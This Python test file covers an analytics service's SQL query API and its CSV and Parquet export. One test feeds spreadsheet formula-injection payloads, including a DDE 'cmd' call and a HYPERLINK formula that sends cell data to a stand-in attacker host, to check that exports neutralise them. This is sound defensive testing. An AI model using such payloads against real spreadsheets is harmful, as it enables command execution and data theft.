"""Queries are asked, stopped and planned, and answers taken away as files."""

from __future__ import annotations

import csv
import io
import json

import httpx
import msgspec
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from headrace.api.export import csv_response, parquet_response, response_format
from headrace.client.tables import pandas_frame
from headrace.serving.answer import Answer, ColumnInfo
from headrace.serving.answer_table import arrow_table

from .conftest import Shop, condition

WINDOW = {"start": "2026-01-01T00:00:00Z", "end": None}
ROWS = Answer(
    [
        {"url": '/a,"b"', "hour": WINDOW, "n": 2**60, "day": "2026-01-02", "ok": True, "of": [1]},
        {"url": None, "hour": None, "n": None, "day": None, "ok": None, "of": None},
    ],
    {},
    {
        name: ColumnInfo(type, True)
        for name, type in (
            ("url", "STRING"),
            ("hour", "WINDOW"),
            ("n", "BIGINT"),
            ("day", "DATE"),
            ("ok", "boolean"),
            ("of", "ARRAY<BIGINT>"),
        )
    },
    truncated=True,
)


def test_a_query_is_asked_with_an_id_and_stopped_by_it(client: httpx.Client, shop: Shop) -> None:
    client.post("/v1/sql", json={"sql": "SELECT 1", "id": "tab-1"})
    stopped = client.post("/v1/sql/tab-1/cancel").json()
    assert stopped == {"id": "tab-1", "stopped": True}
    assert shop.calls == [("sql", "SELECT 1", None, "tab-1"), ("cancel", "tab-1")]


@pytest.mark.parametrize("id", ["", "a b", "x" * 65, "../x"])
def test_an_id_is_a_short_plain_word(client: httpx.Client, id: str) -> None:
    assert condition(client.post("/v1/sql", json={"sql": "SELECT 1", "id": id})) == "BadRequest"


def test_a_plan_is_asked_for(client: httpx.Client, shop: Shop) -> None:
    planned = client.post("/v1/sql/plan", json={"sql": "SELECT 1"}).json()
    assert (planned["by"], planned["relations"]) == ("store", ["visitors"])
    assert shop.calls == [("query_plan", "SELECT 1")]


def test_accept_chooses_the_form() -> None:
    assert response_format("text/csv, */*") is csv_response
    assert response_format("application/vnd.apache.parquet;q=1") is parquet_response
    for accept in ("", "*/*", "application/json, text/csv", "text/html"):
        assert response_format(accept) is None


def test_csv_is_as_rfc_4180_has_it() -> None:
    response = csv_response(ROWS)
    assert bytes(response.body).decode() == (
        "url,hour_start,hour_end,n,day,ok,of\r\n"
        '"/a,""b""",2026-01-01T00:00:00Z,,1152921504606846976,2026-01-02,true,[1]\r\n'
        ",,,,,,\r\n"
    )
    assert response.headers["content-type"].startswith("text/csv")


@pytest.mark.parametrize(
    "text",
    ["=cmd|'/C calc'!A0", "+1+cmd", "-1+cmd", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1+1", "-", "=",
     '=HYPERLINK("http://evil.example?"&A1,"x")', "-1,5", "+49 30 1", "--1", "- 1"],
)  # fmt: skip
def test_text_of_an_event_is_no_formula_in_a_spreadsheet(text: str) -> None:
    answer = Answer([{"a": text}], {}, {"a": ColumnInfo("STRING", True)}, False)
    _, (cell,) = csv.reader(io.StringIO(bytes(csv_response(answer).body).decode(), newline=""))
    assert cell == "'" + text
    named = Answer([], {}, {text: ColumnInfo("BIGINT", True)}, False)
    (name,) = next(csv.reader(io.StringIO(bytes(csv_response(named).body).decode(), newline="")))
    assert name == "'" + text


def test_numbers_and_plain_text_stay_as_they_are() -> None:
    values = ["-1.50", "+7", "-1e-9", "a=b", "1-1", "", "'quoted'", "[-1]"]
    answer = Answer(
        [{"a": value, "n": -5, "of": [-1]} for value in values], {},
        {"a": ColumnInfo("DECIMAL(9,2)", True), "n": ColumnInfo("BIGINT", True),
         "of": ColumnInfo("ARRAY<INT>", True)}, False,
    )  # fmt: skip
    rows = list(csv.reader(io.StringIO(bytes(csv_response(answer).body).decode(), newline="")))
    assert rows[1:] == [[value, "-5", "[-1]"] for value in values]


def test_parquet_has_the_types_of_the_answer() -> None:
    table = pq.read_table(io.BytesIO(bytes(parquet_response(ROWS).body)))
    assert table.schema.field("n").type == pa.int64()
    assert table.schema.field("day").type == pa.date32()
    assert table.schema.field("hour_start").type == pa.timestamp("us", "UTC")
    first, second = table.to_pylist()
    assert (first["url"], first["n"], first["ok"], first["of"]) == ('/a,"b"', 2**60, True, [1])
    assert set(second.values()) == {None}


@pytest.mark.parametrize("window", ["WINDOW", "struct<start:timestamp,end:timestamp>"])
def test_a_window_has_the_same_columns_in_every_form(window: str) -> None:
    columns = {**ROWS.columns, "hour": ColumnInfo(window, True)}
    answer = msgspec.structs.replace(ROWS, columns=columns)
    text = bytes(csv_response(answer).body).decode()
    parquet = pq.read_table(io.BytesIO(bytes(parquet_response(answer).body)))
    names = ["url", "hour_start", "hour_end", "n", "day", "ok", "of"]
    assert text.splitlines()[0].split(",") == names
    assert parquet.column_names == arrow_table(answer).column_names == names
    assert list(pandas_frame(answer).columns) == names


def test_a_parquet_file_says_what_it_speaks_for() -> None:
    schema = pq.read_schema(io.BytesIO(bytes(parquet_response(ROWS).body)))
    assert json.loads(schema.metadata[b"headrace"])["truncated"] is True


def test_a_file_says_in_headers_what_it_speaks_for(client: httpx.Client) -> None:
    response = client.post(
        "/v1/sql", json={"sql": "SELECT * FROM visitors"}, headers={"Accept": "text/csv"}
    )
    assert response.text.splitlines()[0] == "url,visitors"
    assert '"generation":3' in response.headers["x-headrace-as-of"]
    assert response.headers["x-headrace-truncated"] == "true"
